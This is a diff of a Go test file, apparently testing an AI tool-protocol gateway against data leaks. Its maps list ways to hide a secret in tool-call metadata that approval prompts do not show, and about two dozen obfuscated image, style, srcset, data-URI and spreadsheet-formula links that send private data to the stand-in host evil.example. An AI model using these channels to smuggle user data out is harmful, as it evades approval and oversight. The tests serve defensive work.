@@ -7,7 +7,8 @@ import (
 	"testing"
 )
 
-// arounds are members of the params, but for name and arguments, that hold more than 100 bits in what no approval request shows.
+// arounds are members of the params, but for name and arguments, that hold more than 100 bits in parts that no approval
+// request shows.
 var arounds = map[string]string{
 	"metadata of nobody":             `"_meta":{SESSION,"x":"KEY"}`,
 	"metadata of a vendor":           `"_meta":{SESSION,"com.example/toolUseId":"KEY"}`,
@@ -15,7 +16,7 @@ var arounds = map[string]string{
 	"baggage":                        `"_meta":{SESSION,"baggage":"k=KEY"}`,
 	"the name of metadata":           `"_meta":{SESSION,"KEY":1}`,
 	"attribution of annotations":     `"_meta":{SESSION,"annotations":{"attribution":["https://a.example/KEY"]}}`,
-	"what nobody knows of these":     `"_meta":{SESSION,"annotations":{"x":"KEY"}}`,
+	"unknown annotations":            `"_meta":{SESSION,"annotations":{"x":"KEY"}}`,
 	"a client's name":                `"_meta":{SESSION,"io.modelcontextprotocol/clientInfo":{"name":"KEY","version":"1"}}`,
 	"a client's capabilities":        `"_meta":{SESSION,"io.modelcontextprotocol/clientCapabilities":{"experimental":{"KEY":{}}}}`,
 	"a related task":                 `"_meta":{SESSION,"io.modelcontextprotocol/related-task":{"taskId":"KEY"}}`,
@@ -73,34 +74,34 @@ overlays:
 
 // spelledLinks are links as renderers of Markdown and HTML read them.
 var spelledLinks = map[string]string{
-	"entities by number":    `<img src="&#104;ttps&#58;//evil&#46;example/Ada-96000">`,
-	"entities by name":      `<img src="https&colon;//evil&period;example/Ada-96000">`,
-	"only the dot":          `<img src="https://evil&period;example/Ada-96000">`,
-	"percent signs":         `![](https://evil%2eexample/Ada-96000)`,
-	"backslashes":           `<img src="https:\\\\evil.example\\Ada-96000">`,
-	"one slash":             `<img src="https:/evil.example/Ada-96000">`,
-	"no slash":              `<img src="https:evil.example/Ada-96000">`,
-	"a line break":          "<img src=\"https://evil.exa\nmple/Ada-96000\">",
-	"a tab in the scheme":   "<img src=\"ht\ttps://evil.example/Ada-96000\">",
-	"a number for a host":   `![](http://3405803777/Ada-96000)`,
-	"no scheme":             `![](//evil.example/Ada-96000)`,
-	"a host alone":          `evil.example/Ada-96000`,
-	"data in the host":      `![](https://ada-96000.evil.example)`,
-	"a full stop of IDNA":   `![](https://evil。example/Ada-96000)`,
-	"escapes of Markdown":   `![](https://evil\.example/Ada-96000)`,
-	"a reference":           "![x][1]\n\n[1]: https://evil.example/Ada-96000",
-	"angle brackets":        `![x](<https://evil.example/Ada-96000>)`,
-	"a style":               `<p style="background:url(https://evil.example/Ada-96000)">`,
-	"a set of sources":      `<img srcset="https://evil.example/Ada-96000 2x">`,
-	"a picture in its data": `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.example/Ada-96000'/></svg>">`,
-	"data in base64":        `<img src="data:image/svg+xml;base64,PHN2Zz48aW1hZ2UgaHJlZj0naHR0cHM6Ly9ldmlsLmV4YW1wbGUvQWRhLTk2MDAwJy8+PC9zdmc+">`,
-	"a formula":             `=IMAGE("https://evil.example/"&A1)`,
-	"a user before a host":  `![](https://docs.example@evil.example/Ada-96000)`,
-	"two of a stranger's":   `![](https://evil.example/pixel?https://evil.example/pixel)`,
+	"entities by number":       `<img src="&#104;ttps&#58;//evil&#46;example/Ada-96000">`,
+	"entities by name":         `<img src="https&colon;//evil&period;example/Ada-96000">`,
+	"only the dot":             `<img src="https://evil&period;example/Ada-96000">`,
+	"percent signs":            `![](https://evil%2eexample/Ada-96000)`,
+	"backslashes":              `<img src="https:\\\\evil.example\\Ada-96000">`,
+	"one slash":                `<img src="https:/evil.example/Ada-96000">`,
+	"no slash":                 `<img src="https:evil.example/Ada-96000">`,
+	"a line break":             "<img src=\"https://evil.exa\nmple/Ada-96000\">",
+	"a tab in the scheme":      "<img src=\"ht\ttps://evil.example/Ada-96000\">",
+	"a number for a host":      `![](http://3405803777/Ada-96000)`,
+	"no scheme":                `![](//evil.example/Ada-96000)`,
+	"a host alone":             `evil.example/Ada-96000`,
+	"data in the host":         `![](https://ada-96000.evil.example)`,
+	"a full stop of IDNA":      `![](https://evil。example/Ada-96000)`,
+	"escapes of Markdown":      `![](https://evil\.example/Ada-96000)`,
+	"a reference":              "![x][1]\n\n[1]: https://evil.example/Ada-96000",
+	"angle brackets":           `![x](<https://evil.example/Ada-96000>)`,
+	"a style":                  `<p style="background:url(https://evil.example/Ada-96000)">`,
+	"a set of sources":         `<img srcset="https://evil.example/Ada-96000 2x">`,
+	"a picture in its data":    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.example/Ada-96000'/></svg>">`,
+	"data in base64":           `<img src="data:image/svg+xml;base64,PHN2Zz48aW1hZ2UgaHJlZj0naHR0cHM6Ly9ldmlsLmV4YW1wbGUvQWRhLTk2MDAwJy8+PC9zdmc+">`,
+	"a formula":                `=IMAGE("https://evil.example/"&A1)`,
+	"a user before a host":     `![](https://docs.example@evil.example/Ada-96000)`,
+	"two of untrusted content": `![](https://evil.example/pixel?https://evil.example/pixel)`,
 }
 
 // TestLinksInWhatIsKept puts private data into the address of a picture, a page or a file that the user's own services are to keep. They
-// fetch it, by themselves or when somebody looks.
+// fetch it, by themselves or when a user looks.
 func TestLinksInWhatIsKept(t *testing.T) {
 	page := server{name: "web", trust: "trusted", script: script{
 		Tools:   tools(`{"name":"look","annotations":{"readOnlyHint":true,"openWorldHint":false,"returnMetadata":{"source":"untrustedPublic","sensitivity":"none"}}}`),
